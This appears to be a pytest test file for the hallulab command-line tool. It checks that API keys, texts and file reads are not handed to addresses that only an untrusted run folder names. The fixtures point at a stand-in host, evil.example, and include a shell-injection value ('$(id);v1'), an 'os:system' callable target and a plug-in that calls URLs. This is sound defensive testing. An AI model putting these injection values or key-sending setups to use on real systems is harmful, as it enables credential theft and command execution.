"""No command sends a key, or beyond this machine any text, to an address that only a run folder names."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from hallulab.agents.models.model import ROOT
from hallulab.agents.models.recording import Recording
from hallulab.simulator.records.folder import RunFolder
from hallulab.simulator.records.recipients import VIEW_FILE
from hallulab.testing.tiny_pack import make_pack, words_for_vectors
from tests.scenarios.installed import install
from tests.simulator.cli.test_commands import saved_run
from tests.simulator.command_line import CommandLine
from tests.simulator.recording_endpoint import KEY, VARIABLE, Recorded, recording_endpoint

FAR = "http://evil.example/v1"


@pytest.fixture(scope="module")
def served() -> Iterator[Recorded]:
    with recording_endpoint() as recorded:
        yield recorded


@pytest.fixture
def evil(served: Recorded, monkeypatch: pytest.MonkeyPatch) -> Iterator[Recorded]:
    """The endpoint that wants the key, which is in the environment."""
    served.heads.clear()
    monkeypatch.setenv(VARIABLE, KEY)
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    with words_for_vectors():
        yield served


def strangers_run(folder: Path, **fields: Any) -> RunFolder:
    """A run folder whose experiment.json says more than that of `saved_run`."""
    run = saved_run(folder)
    whole = json.loads(run.experiment.read_text())
    whole["experiment"] |= {"model": "stub", "detectors": ["direct-judge"], **fields}
    run.experiment.write_text(json.dumps(whole))
    return run


def contents(folder: Path) -> dict[str, bytes]:
    return {str(file.relative_to(folder)): file.read_bytes() for file in folder.rglob("*") if file.is_file()}


def naming(url: str, how: str) -> dict[str, Any]:
    """Fields of experiment.json that name an address for the key."""
    return {
        "main": {"base_url": url, "api_key_env": VARIABLE},
        "several": {"base_urls": [url, url.replace("127.0.0.1", "localhost")], "api_key_env": VARIABLE},
        "model": {
            "base_url": url,
            "models": {"judge": {"model": "stub", "base_url": url, "api_key_env": VARIABLE}},
            "roles": {"detector": "judge"},
        },
        "key of a model": {
            "base_url": url,
            "models": {"judge": {"model": "stub", "api_key_env": VARIABLE}},
            "roles": {"detector": "judge"},
        },
        "user": {
            "base_url": url,
            "models": {"played": {"model": "other", "base_url": url, "api_key_env": VARIABLE}},
            "user": {"models": ["default", "played"]},
        },
    }[how]


WAYS = ("main", "several", "model", "key of a model", "user")


@pytest.mark.parametrize("how", WAYS)
@pytest.mark.parametrize("command", ["detect", "branch"])
def test_a_key_goes_to_no_address_of_a_folder(
    hallulab: CommandLine, evil: Recorded, tmp_path: Path, command: str, how: str
) -> None:
    run = strangers_run(tmp_path / "theirs", **naming(evil.url, how))
    before = contents(tmp_path)
    out = ("--out", tmp_path / "mine") if command == "branch" else ()
    code, told = hallulab.code_and_error(command, run.path, *out, "--quiet")
    assert (code, evil.heads) == (2, [])
    assert VARIABLE in told
    assert evil.url in told
    assert KEY not in told
    assert contents(tmp_path) == before


def test_the_sentence_gives_the_two_flags_to_add(
    hallulab: CommandLine, evil: Recorded, tmp_path: Path
) -> None:
    run = strangers_run(tmp_path / "theirs", **naming(evil.url, "main"))
    flags = f"--base-url {evil.url} --api-key-env {VARIABLE}"
    told = hallulab.code_and_error("detect", run.path, "--quiet")[1]
    assert told == (
        f"error: only {run.experiment} says that {evil.url} gets texts and the key in {VARIABLE}. "
        f"If you trust it, give {flags}.\n"
    )
    assert hallulab.code_and_error("detect", run.path, "--quiet", *flags.split()) == (0, "")
    assert evil.got_key


def test_flags_in_a_sentence_are_quoted_for_the_shell(
    hallulab: CommandLine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = strangers_run(tmp_path / "theirs", base_url="http://evil.example/$(id);v1", api_key_env="A;B")
    told = hallulab.code_and_error("detect", run.path, "--quiet")[1]
    assert "--base-url 'http://evil.example/$(id);v1' --api-key-env 'A;B'." in told


@pytest.mark.parametrize("given", [("--base-url", ""), ("--api-key-env", VARIABLE)])
def test_one_of_the_two_flags_is_not_enough(
    hallulab: CommandLine, evil: Recorded, tmp_path: Path, given: tuple[str, str]
) -> None:
    run = strangers_run(tmp_path / "theirs", **naming(evil.url, "main"))
    flag, value = given
    code, _ = hallulab.code_and_error("detect", run.path, flag, value or evil.url, "--quiet")
    assert (code, evil.heads) == (2, [])


def test_openais_key_goes_to_no_remote_address_of_a_folder_and_without_a_key_no_text(
    hallulab: CommandLine, evil: Recorded, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = strangers_run(tmp_path / "theirs", base_url=FAR)
    code, told = hallulab.code_and_error("detect", run.path, "--quiet")
    assert (code, f"{FAR} gets texts and the key in OPENAI_API_KEY" in told) == (2, True)
    monkeypatch.delenv("OPENAI_API_KEY")
    code, told = hallulab.code_and_error("detect", run.path, "--quiet")
    assert (code, told.startswith(f"error: only {run.experiment} says that")) == (2, True)


def test_a_server_on_this_machine_is_asked_without_a_key(
    hallulab: CommandLine, evil: Recorded, tmp_path: Path
) -> None:
    run = strangers_run(tmp_path / "mine", base_url=evil.url)
    assert hallulab.code_and_error("detect", run.path, "--quiet") == (0, "")
    assert evil.heads
    assert not evil.got_key


def test_a_detector_that_asks_nobody_needs_no_word(
    hallulab: CommandLine, evil: Recorded, tmp_path: Path
) -> None:
    run = strangers_run(tmp_path / "theirs", **naming(evil.url, "main"))
    arguments = ("detect", run.path, "--detectors", "lexical", "--quiet")
    assert hallulab.code_and_error(*arguments) == (0, "")
    assert evil.heads == []


def test_a_bot_of_the_folder_is_not_asked_by_detect(
    hallulab: CommandLine, evil: Recorded, tmp_path: Path
) -> None:
    """So its address need not be named."""
    options = {"model": "m", "base_url": FAR, "api_key_env": VARIABLE}
    bot = {"name": "vanilla", "kind": "endpoint", "options": options}
    run = strangers_run(tmp_path / "theirs", base_url=evil.url, chatbots=[bot])
    assert hallulab.code_and_error("detect", run.path, "--quiet") == (0, "")
    assert not evil.got_key


@pytest.mark.parametrize("how", WAYS[:-1])  # the endpoint serves one model
def test_an_experiment_file_of_the_users_own_names_all(
    hallulab: CommandLine, evil: Recorded, tmp_path: Path, how: str
) -> None:
    fields = naming(evil.url, how)
    run = strangers_run(tmp_path / "run", **fields)
    file = tmp_path / "own.yaml"
    file.write_text(yaml.safe_dump({"model": "stub", **fields}))
    code, told = hallulab.code_and_error("detect", run.path, "-c", file, "--quiet")
    assert (code, evil.got_key) == (0, True), told


def resume(hallulab: CommandLine, file: Path, out: Path) -> tuple[int, str]:
    return hallulab.code_and_error("run", "-c", file, "--out", out, "--quiet")


FILE = {"model": "stub", "chatbots": ["vanilla"], "detectors": [], "limit": 1, "max_turns": 1, "min_turns": 1}


def place(way: str, run: RunFolder, elsewhere: Path, fields: dict[str, Any]) -> Path:
    """An experiment file of a stranger's run folder, and how it is named on the command line."""
    name = "mine.yaml" if way in ("another name", "deeper", "link out") else VIEW_FILE
    inside = run.path / ("batch" if way == "deeper" else "") / name
    inside.parent.mkdir(exist_ok=True)
    elsewhere.mkdir()
    if way == "link out":
        (elsewhere / "exp.yaml").write_text(yaml.safe_dump(fields))
        inside.symlink_to(elsewhere / "exp.yaml")
        return inside
    inside.write_text(yaml.safe_dump(fields))
    if way == "link":
        (elsewhere / "exp.yaml").symlink_to(inside)
        return elsewhere / "exp.yaml"
    if way == "linked folder":
        (elsewhere / "run").symlink_to(run.path)
        return elsewhere / "run" / name
    if way == "copy":
        (elsewhere / name).write_text(inside.read_text())
        return elsewhere / name
    if way == "dots":
        return elsewhere / ".." / run.path.name / name
    if way == "relative":
        os.chdir(run.path)
        return Path(name)
    return inside


PLACES = [
    "as it is",
    "another name",
    "deeper",
    "link",
    "link out",
    "linked folder",
    "copy",
    "dots",
    "relative",
]


@pytest.mark.parametrize("way", PLACES)
def test_a_file_of_the_run_folder_is_no_word_of_the_user(
    hallulab: CommandLine, evil: Recorded, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, way: str
) -> None:
    monkeypatch.chdir(tmp_path)
    run = strangers_run(tmp_path / "theirs")
    fields = {"scenario": str(make_pack(tmp_path / "pack")), **FILE, **naming(evil.url, "main")}
    file = place(way, run, tmp_path / "elsewhere", fields)
    code, told = resume(hallulab, file, tmp_path / "out")
    assert (code, evil.heads) == (2, [])
    assert f"--base-url {evil.url} --api-key-env {VARIABLE}" in told
    assert not (tmp_path / "out").exists()


@pytest.mark.parametrize(
    "arguments",
    [
        ("run", "--no-judge", "-c", "{file}", "--out", "{out}"),
        ("detect", "{run}", "-c", "{file}"),
        ("branch", "{run}", "-c", "{file}", "--out", "{out}"),
        ("chat", "-c", "{file}", "--out", "{out}"),
        ("bench", "{data}", "-c", "{file}"),
        ("calibrate", "-c", "{file}"),
        ("make-data", "planted", "{pack}", "--fluent", "-c", "{file}", "--out", "{out}"),
        ("init-scenario", "--summarize", "{chat}", "-c", "{file}"),
        ("init-scenario", "{out}", "--documents", "{pack}/documents", "-c", "{file}"),
        ("view", "{run}", "--experiment", "{file}", "--no-browser"),
        ("rag-trust", "-c", "{file}", "--data", "{pack}", "--out", "{out}"),
    ],
)
def test_no_command_takes_its_word_for_it(
    hallulab: CommandLine, evil: Recorded, tmp_path: Path, arguments: tuple[str, ...]
) -> None:
    run = strangers_run(tmp_path / "theirs")
    file, data, chat = run.path / VIEW_FILE, tmp_path / "data.jsonl", tmp_path / "chat.json"
    fields = {"model": "stub", **naming(evil.url, "main")}
    file.write_text(yaml.safe_dump(fields))
    data.write_text('{"reply": "Chalk.", "passages": ["Chalk."], "label": false}\n')
    chat.write_text('[{"role": "user", "content": "What fee?"}, {"role": "assistant", "content": "None."}]')
    places = {"file": file, "run": run.path, "out": tmp_path / "out", "data": data, "chat": chat}
    pack = make_pack(tmp_path / "pack")
    code, told = hallulab.code_and_error(*(word.format(**places, pack=pack) for word in arguments))
    assert (code, evil.heads) == (2, []), told
    assert f"only {run.path}" in told
    assert not (tmp_path / "out").exists()


def test_flags_name_what_a_file_of_the_run_folder_names(
    hallulab: CommandLine, evil: Recorded, tmp_path: Path
) -> None:
    run = strangers_run(tmp_path / "theirs")
    fields = {"scenario": str(make_pack(tmp_path / "pack")), **FILE, **naming(evil.url, "main")}
    file = run.path / VIEW_FILE
    file.write_text(yaml.safe_dump(fields))
    flags = ("--base-url", evil.url, "--api-key-env", VARIABLE)
    code, told = hallulab.code_and_error(
        "run", "--no-judge", "-c", file, "--out", tmp_path / "out", "--quiet", *flags
    )
    assert (code, evil.got_key) == (0, True), told


def test_a_file_of_the_run_folder_starts_no_code_on_branching(hallulab: CommandLine, tmp_path: Path) -> None:
    run = strangers_run(tmp_path / "theirs")
    file = run.path / VIEW_FILE
    file.write_text("chatbots:\n- {name: x, kind: callable, options: {target: 'os:system'}}\n")
    code, told = hallulab.code_and_error("branch", run.path, "-c", file, "--out", tmp_path / "out")
    assert (code, "other people's code or service (callable)" in told) == (2, True)


@pytest.mark.parametrize(("answer", "code"), [("y\n", 0), ("n\n", 2), ("\n", 2), ("", 2)])
def test_a_person_at_a_terminal_is_asked(
    hallulab: CommandLine,
    evil: Recorded,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    answer: str,
    code: int,
) -> None:
    run = strangers_run(tmp_path / "theirs", **naming(evil.url, "main"))
    monkeypatch.setattr("sys.stdin", Typed(answer))
    monkeypatch.setattr("sys.stderr.isatty", lambda: True)
    told = hallulab("detect", run.path, "--quiet")
    assert (told.code, evil.got_key) == (code, code == 0), told.err
    assert f"{evil.url} gets texts and the key in {VARIABLE}" in told.err


class Typed:
    """A terminal at which a line is typed."""

    def __init__(self, line: str) -> None:
        self._line = line

    def isatty(self) -> bool:
        """It is one."""
        return True

    def readline(self) -> str:
        """The line."""
        return self._line


def test_a_missing_answer_is_never_asked_for_in_a_replay(
    hallulab: CommandLine, evil: Recorded, tmp_path: Path
) -> None:
    run = strangers_run(tmp_path / "theirs", **naming(evil.url, "main"))
    recording = tmp_path / "recording.jsonl"
    recorded = Recording.record(recording)
    recorded.put(ROOT, "stub", "of another question")
    recorded.close()
    code, told = hallulab.code_and_error("detect", run.path, "--replay", recording, "--quiet")
    assert (code, evil.heads) == (1, []), told


def weights_here(folder: Path) -> Path:
    folder.mkdir()
    (folder / "config.json").write_text("{}")
    return folder


@pytest.mark.parametrize("how", ["served", "embedding", "weights", "file"])
def test_no_folder_or_file_that_only_a_run_folder_names_is_read(
    hallulab: CommandLine, evil: Recorded, tmp_path: Path, how: str
) -> None:
    path = str(weights_here(tmp_path / "weights"))
    fields: dict[str, Any] = {
        "served": {"model": path},
        "embedding": {"base_url": evil.url, "embedding_model": path},
        "weights": {"detectors": [{"name": "x", "kind": "hhem", "options": {"weights": path}}]},
        "file": {"detectors": [{"name": "x", "kind": "combined", "options": {"model": path}}]},
    }[how]
    run = strangers_run(tmp_path / "theirs", **fields)
    before = contents(tmp_path)
    code, told = hallulab.code_and_error("detect", run.path, "--quiet")
    assert (code, evil.heads, contents(tmp_path)) == (2, [], before)
    assert told.startswith(f"error: only {run.experiment} says that {path} is read. If you trust it, give ")
    assert (f"give --model {path}, or an experiment file" in told) == (how == "served")


def test_a_folder_that_the_users_own_file_names_is_read(
    hallulab: CommandLine, evil: Recorded, tmp_path: Path
) -> None:
    path = str(weights_here(tmp_path / "weights"))
    run = strangers_run(tmp_path / "run", base_url=evil.url, embedding_model=path)
    file = tmp_path / "own.yaml"
    file.write_text(yaml.safe_dump({"embedding_model": path}))
    # What is in it is no model: that is told when it is read.
    assert "says that" not in hallulab.code_and_error("detect", run.path, "-c", file, "--quiet")[1]


PLUG_IN = """
import hallulab
import urllib.request

class Asking(hallulab.Detector):
    version = "1"
    traits = hallulab.Traits(needs_model=False)

    def __init__(self, name, context):
        self.name = name
        for address in context.options.values():
            if "://" in str(address):
                urllib.request.urlopen(address + "/models")

    async def detect(self, view):
        return hallulab.Judgement(outcome="scored", score=0.0, flagged=False)
"""


@pytest.mark.parametrize(
    ("options", "code"),
    [
        ({"url": FAR}, 2),
        ({"url": "URL", "header": f"Bearer ${{{VARIABLE}}}"}, 2),
        ({"deep": [{"key": VARIABLE}]}, 2),
        ({"deep": {VARIABLE: 1}}, 2),
        ({"threshold": 0.5, "way": "strict"}, 0),
    ],
)
def test_options_of_somebody_elses_detector_may_name_addresses_and_keys(
    hallulab: CommandLine,
    evil: Recorded,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    options: dict[str, Any],
    code: int,
) -> None:
    """Nobody knows what they mean, and its constructor may ask."""
    install(tmp_path, monkeypatch, PLUG_IN, detectors="asking = theirs:Asking")
    given = {name: evil.url if value == "URL" else value for name, value in options.items()}
    run = strangers_run(tmp_path / "run", detectors=[{"name": "x", "kind": "asking", "options": given}])
    ended, told = hallulab.code_and_error("detect", run.path, "--quiet")
    assert (ended, evil.heads) == (code, []), told


def test_a_bot_that_the_users_own_file_names_gets_its_key_in_branches(
    hallulab: CommandLine, evil: Recorded, tmp_path: Path
) -> None:
    options = {"model": "stub", "base_url": evil.url, "api_key_env": VARIABLE}
    pack = str(make_pack(tmp_path / "pack"))
    run = strangers_run(tmp_path / "run", base_url=evil.url, scenario=pack)
    file = tmp_path / "own.yaml"
    file.write_text(yaml.safe_dump({"chatbots": [{"name": "bot", "kind": "endpoint", "options": options}]}))
    out = ("--out", tmp_path / "out", "--quiet")
    code, told = hallulab.code_and_error("branch", run.path, "-c", file, *out)
    assert (code, evil.got_key) == (0, True), told


def test_a_sentence_names_three_and_a_question_all(hallulab: CommandLine, tmp_path: Path) -> None:
    models = {f"m{n}": {"model": "x", "base_url": f"http://evil{n}.example/v1"} for n in range(9)}
    run = strangers_run(tmp_path / "theirs", models=models)
    told = hallulab.code_and_error("detect", run.path, "--quiet")[1]
    assert told.count("gets texts") == 3
    assert "; and 6 more. If you trust it, name both in an experiment file of your own" in told
